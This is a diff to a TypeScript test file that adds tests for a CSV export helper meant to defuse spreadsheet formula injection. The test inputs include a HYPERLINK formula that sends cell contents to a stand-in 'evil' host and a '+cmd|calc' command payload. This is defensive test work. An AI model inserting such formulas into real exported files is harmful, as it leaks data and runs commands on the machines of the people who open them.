@@ -1,7 +1,7 @@
 import { describe, expect, it } from 'vitest';
 import { Dec } from '@tally/money';
 import { buildInvoice } from './build-invoice.ts';
-import { invoiceCsv } from './invoice-export.ts';
+import { csvField, invoiceCsv } from './invoice-export.ts';
 import { PriceBook } from './price-book.ts';
 import { account, at, entry, perUnit, usage } from './test-fixtures.ts';
 
@@ -36,5 +36,23 @@ describe('invoiceCsv', () => {
     ]);
     const sum = rows.slice(1).reduce((s, r) => s.plus(r.split(',').at(-2)!), new Dec(0));
     expect(sum.toFixed(2)).toBe(content.total);
+  });
+});
+
+describe('csvField', () => {
+  it('defuses cells a spreadsheet would run as formulas', () => {
+    expect(csvField('=HYPERLINK("http://evil/?"&A1,"x")')).toBe(`"'=HYPERLINK(""http://evil/?""&A1,""x"")"`);
+    expect(csvField('+cmd|calc')).toBe("'+cmd|calc");
+    expect(csvField('-2+3')).toBe("'-2+3");
+    expect(csvField('@SUM(A1:A9)')).toBe("'@SUM(A1:A9)");
+    expect(csvField('\t=1')).toBe("'\t=1");
+  });
+
+  it('leaves numbers, signed ones included, and ordinary text as they are', () => {
+    expect(csvField('-1.00')).toBe('-1.00');
+    expect(csvField('+5')).toBe('+5');
+    expect(csvField(12)).toBe('12');
+    expect(csvField('acct-1')).toBe('acct-1');
+    expect(csvField(null)).toBe('');
   });
 });
